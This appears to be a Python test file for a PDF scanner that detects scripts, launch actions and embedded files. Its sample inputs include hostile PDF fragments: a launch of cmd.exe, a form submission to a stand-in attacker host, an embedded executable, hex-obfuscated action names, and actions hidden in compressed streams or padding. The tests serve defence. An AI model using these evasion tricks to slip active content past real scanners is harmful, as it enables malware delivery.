"""Programs and files inside PDF documents are found, whatever is done to hide them."""

import zlib
from pathlib import Path

import pypdf
import pytest
from pypdf.actions import JavaScript

from civique.services.pdf_scripts import pdf_has_script
from tests.defences import defence, replaced


def pdf(tmp_path: Path, *objects: bytes) -> Path:
    path = tmp_path / "document.pdf"
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    path.write_bytes(b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n")
    return path


def stream(content: bytes, extra: bytes = b"/Type /ObjStm /N 1 /First 4") -> bytes:
    packed = zlib.compress(content)
    return b"<< %b /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (extra, len(packed), packed)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def test_an_ordinary_pdf_has_no_script(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": "Un titre"})
    writer.write(tmp_path / "plain.pdf")
    assert not pdf_has_script(tmp_path / "plain.pdf")
    assert not pdf_has_script(pdf(tmp_path, CATALOG, stream(b"2 0 << /Type /Pages >>"), b"<< /JSX 1 /Launcher 2 >>"))
    (tmp_path / "empty.pdf").touch()
    assert not pdf_has_script(tmp_path / "empty.pdf")


def test_a_script_added_by_a_library(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_open_action(JavaScript("app.alert(1)"))
    writer.write(tmp_path / "script.pdf")
    assert pdf_has_script(tmp_path / "script.pdf")


def test_a_script_in_an_encrypted_document(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_open_action(JavaScript("app.alert(1)"))
    writer.encrypt("", "owner", algorithm="RC4-128")
    writer.write(tmp_path / "encrypted.pdf")
    assert pdf_has_script(tmp_path / "encrypted.pdf")


def test_a_file_carried_by_a_pdf(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("a.exe", b"MZ")
    writer.write(tmp_path / "carrier.pdf")
    assert pdf_has_script(tmp_path / "carrier.pdf")


@defence(
    "no PDF holds a program",
    replaced("civique.services.pdf_scripts._has_script", lambda data: False),
)
@pytest.mark.parametrize(
    "content",
    [
        b"<< /OpenAction << /S /JavaScript /JS (x) >> >>",
        b"<< /S /J#61vaScript >>",
        b"<</S/#4A#61#76#61#53#63#72#69#70#74/#4aS(x)>>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /Rendition /JS (x) >>",
        b"<< /Type /EmbeddedFile >>",
        b"<< /S /GoToE /F (a.pdf) >>",
        b"<< /AcroForm << /XFA 3 0 R >> >>",
        b"<< /Subtype /RichMedia >>",
        b"<< /S /SubmitForm /F (https://evil.example) >>",
        b"<< /S /ImportData /F (a.fdf) >>",
        stream(b"3 0 << /AcroForm << /XFA 4 0 R >> >>"),
        stream(b"3 0 << /Subtype /RichMedia >>"),
        stream(b"3 0 << /S /SubmitForm >>"),
        stream(b"3 0 << /S /Import#44ata >>"),
        stream(b"3 0 << /S /Launch >>"),
        stream(b"3 0 << /Type /EmbeddedFile >>"),
        stream(b"3 0 " + ACTION),
        stream(b"3 0 << /S /J#61vaScript >>"),
        stream(b"3 0 " + b" " * 5_000_000 + ACTION),
        stream(b"3 0 << /S /Rendition /JS 4 0 R >>"),
        stream(b"3 0 " + ACTION, b"/Type /Obj#53tm"),
        stream(b"3 0 " + ACTION, b"/Type /ObjStm /Padding (" + b"x" * 10_000 + b")"),
        stream(b"3 0 " + ACTION, b"/Type /ObjStm /Padding ( obj )"),
        b"(>>\nstream\n)" + stream(b"3 0 " + ACTION),
    ],
)
def test_scripts_are_found_where_they_hide(tmp_path: Path, content: bytes) -> None:
    assert pdf_has_script(pdf(tmp_path, CATALOG, content))


@pytest.mark.parametrize(
    "content",
    [
        stream(b"3 0 " + b" " * 20_000_000),
        stream(b"3 0", b"/Type /ObjStm /DecodeParms << /Predictor 12 >>"),
        b"<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n78da\nendstream",
        b"<< /Encrypt 5 0 R >> " + stream(b"3 0"),
        b"stream\n" * 30_000,
        b"/J" * 2_000_000,
        stream(b"/J" * 2_000_000, b"/Type /XObject"),
        b"/JS stream\n" * 120_000,
    ],
)
def test_what_cannot_be_looked_at_is_not_trusted(tmp_path: Path, content: bytes) -> None:
    assert pdf_has_script(pdf(tmp_path, CATALOG, content))


def test_the_bytes_of_a_picture_are_not_names(tmp_path: Path) -> None:
    picture = b"<< /Subtype /Image /Filter /DCTDecode >>\nstream\n\xff\xd8 /JS (\x00 \nendstream"
    assert not pdf_has_script(pdf(tmp_path, CATALOG, picture, stream(b"\x00\x00/JS \x00", b"/Subtype /Image")))
